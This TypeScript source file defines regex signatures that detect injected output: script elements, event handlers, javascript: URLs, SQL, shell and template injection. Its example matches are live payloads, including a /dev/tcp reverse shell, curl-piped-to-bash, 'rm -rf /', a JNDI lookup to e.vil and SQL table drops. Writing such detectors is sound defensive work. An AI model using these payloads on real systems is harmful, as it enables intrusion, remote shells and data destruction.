import { defineSignatures } from '../signature.ts';

/** How the names of event handlers begin. */
const HANDLERS = (
  'onabort onafter onanim onaux onbefore onbegin onblur oncan onchange onclick onclose oncontext oncopy oncut ondbl ondrag ondrop onend ' +
  'onerror onfocus onhash oninput oninvalid onkey onload onmessage onmouse onpage onpaste onplay onpointer onpop onprogress onrepeat ' +
  'onreset onresize onscroll onsearch onseek onselect onshow onstart onsubmit ontime ontoggle ontouch ontransition onunload onwheel'
).split(' ');

/** What a consumer of an output would run. For the folded view; all places count. */
export const UNSAFE_OUTPUT_SIGNATURES = defineSignatures('output', [
  {
    name: 'script-element',
    entityType: 'HTML_INJECTION',
    title: 'has an element that runs a script or loads another page',
    weight: 0.7,
    keywords: ['<script', '<iframe', '<object', '<embed', '<base', '<meta', '<link', '<svg', '<form'],
    pattern: String.raw`<\/?script\b[^<>]{0,300}>?|<iframe\b[^<>]{0,300}>?|<(?:object|embed) [^<>]{0,300}>?|<base [^<>]{0,200}href|<meta [^<>]{0,200}http-equiv[^<>]{0,200}>?|<link [^<>]{0,200}\brel=["']?(?:import|stylesheet)[^<>]{0,200}>?|<form [^<>]{0,200}\baction=["']?https?:[^<>]{0,200}>?`,
    examples: {
      matches: ['<script>alert(1)</script>', '<iframe src="//e.vil">', '<meta http-equiv="refresh" content="0">', '<script src=x'],
      misses: ['a script to run', '<scripture>', '<b>bold</b>', 'x < script y', '<metadata>'],
    },
  },
  {
    name: 'event-handler',
    entityType: 'HTML_INJECTION',
    title: 'has an element with an event handler',
    weight: 0.75,
    keywords: HANDLERS,
    pattern: String.raw`<[a-z][a-z\d:-]{0,30}(?:[ \/"'][^<>]{0,300}?)?[ \/"']on[a-z]{3,24} ?= ?[^<>]{0,300}>?`,
    examples: {
      matches: ['<img src=x onerror=alert(1)>', '<svg/onload=alert(1)>', '<a href="#" onclick = "x()">'],
      misses: ['set onclick = handler', '<a href="x">on = off</a>', '<option value="one">'],
    },
  },
  {
    name: 'script-address',
    entityType: 'UNSAFE_LINK',
    title: 'has an address that is a script or a page of its own',
    weight: 0.7,
    keywords: ['javascript:', 'vbscript:', 'data:text', 'data:application', 'data:image'],
    pattern: String.raw`(?<!unsafe:)(?<![\w-])(?:javascript:(?! (?!\/\/))(?=[^ \n)"'<>]{0,64}?[([=.;%\x60/])|vbscript:(?=\w)|data:(?:text\/(?:html|javascript|xml)|application\/(?:xhtml|javascript|x-javascript)|image\/svg\+xml)[;,])[^ \n)"'<>]{0,300}`,
    examples: {
      matches: ['[x](javascript:alert(1))', 'data:text/html,<b>', 'data:image/svg+xml;base64,phn2zz4='],
      misses: ['i like javascript: it is fun', 'data:image/png;base64,aaaa', 'unsafe:javascript:alert(1)'],
    },
  },
  {
    name: 'sql',
    entityType: 'SQL_INJECTION',
    title: 'breaks out of a string in a database query',
    weight: 0.6,
    keywords: ['=', '--', '#', 'drop', 'delete', 'insert', 'update', 'union', 'xp_cmdshell', 'waitfor', 'sleep', 'benchmark'],
    pattern: String.raw`['"] ?\)? ?(?:or|and|\|\|) ?\(?['"]?(\w{1,16})['"]? ?= ?['"]?\1\b(?:['"]| ?--| ?#|\)|$|\n)|['"] ?\)? ?; ?(?:drop|delete|insert|update|alter|truncate|exec|execute|create|grant|shutdown)\b[^\n]{0,120}?(?:--|#|;|\/\*)|['")\d] ?(?:union (?:all )?select)\b[^\n]{0,200}?(?:--|#|\bfrom\b|null)|; ?exec(?:ute)? (?:master\.{1,2})?xp_cmdshell\b|['");] ?(?:;|and|or) ?(?:waitfor delay|(?:pg_)?sleep ?\(\d|benchmark ?\(\d)|['"] ?(?:--|#) ?(?:$|\n)`,
    examples: {
      matches: ["' or '1'='1", "x'; drop table users; --", "1' union select password from users --", '" or 1=1 --', "admin' --"],
      misses: [
        'drop table users;',
        "select * from users where name = 'ada' and id = 3",
        "don't or do",
        'the union selected a leader',
        "use the flag '--force'",
      ],
    },
  },
  {
    name: 'shell',
    entityType: 'SHELL_INJECTION',
    title: 'runs commands where a value is expected, or runs what it downloads',
    weight: 0.6,
    keywords: ['-rf', '-fr', '-r', 'curl', 'wget', '/dev/tcp', '/bin/', 'powershell', 'iex', '/etc/', '$(', '\x60', ':(){'],
    pattern: String.raw`(?:;|&&|\|\|?|\x60|\$\() ?(?:sudo )?rm -[a-z]{0,4}(?:r[a-z]{0,3}f|f[a-z]{0,3}r)[a-z]{0,4}\b|\$\( ?(?:curl|wget|nc|bash|sh|cat \/etc|whoami|id\)|env\)|base64)\b|\x60 ?(?:curl|wget|nc|cat \/etc|whoami|id\x60)\b[^\x60\n]{0,200}\x60(?=[^ \n.,;:!?)])|\b(?:curl|wget)\b[^\n|]{0,300}\|\s?(?:sudo )?(?:ba|z|da)?sh\b|(?:;|&&|\|) ?(?:cat|less|head) \/etc\/(?:passwd|shadow)|\/dev\/tcp\/|\bnc (?:-[a-z]{1,6} ){1,4}[^\n]{0,60}\/bin\/(?:ba)?sh|\bpowershell(?:\.exe)? [^\n]{0,60}-e(?:nc|ncodedcommand)?\b|\biex ?\(|:\(\) ?\{ ?:\|:& ?\};:`,
    examples: {
      matches: [
        'file.txt; rm -rf /',
        '$(curl http://e.vil)',
        'curl https://x.sh | sudo bash',
        'x && cat /etc/passwd',
        'bash -i >& /dev/tcp/10.0.0.1/99',
      ],
      misses: ['the rm command removes files', 'curl https://api.example/users', 'the shell | the sea', 'costs $(5)'],
    },
  },
  {
    name: 'template',
    entityType: 'TEMPLATE_INJECTION',
    title: 'has an expression that a template engine would evaluate',
    weight: 0.6,
    keywords: ['{{', '${', '#{', '<%', '{%'],
    pattern: String.raw`\{\{[^{}\n]{0,80}?(?:\d ?[*+] ?\d|__\w{2,20}__|\bconfig\b|\brequest\.|\bself\.|constructor|\bcycler\b|\blipsum\b|\bpopen\b|\bimport\b)[^{}\n]{0,200}\}\}|\$\{(?:jndi:|\d{1,6}\*\d|t\(java|[^{}\n]{0,80}?(?:getruntime|processbuilder|java\.lang|forname\())[^}\n]{0,200}\}?|#\{ ?(?:\d{1,6} ?\* ?\d|system\(|\x60)[^}\n]{0,200}\}|<%=? ?(?:\d{1,6} ?\* ?\d|system|eval|exec|\x60|file\.|require)[^%\n]{0,200}%>|\{% ?(?:import|include|extends|for \w{1,20} in [^%\n]{0,40}__)[^%\n]{0,200}%\}`,
    examples: {
      matches: ['{{7*7}}', "{{ ''.__class__.__mro__ }}", '${jndi:ldap://e.vil/a}', '<%= system("id") %>', '{% import os %}'],
      misses: ['hello {{name}}', '${name}', '<%= title %>', 'a #{tag}', '{{ user.config_name_here }}'],
    },
  },
]);
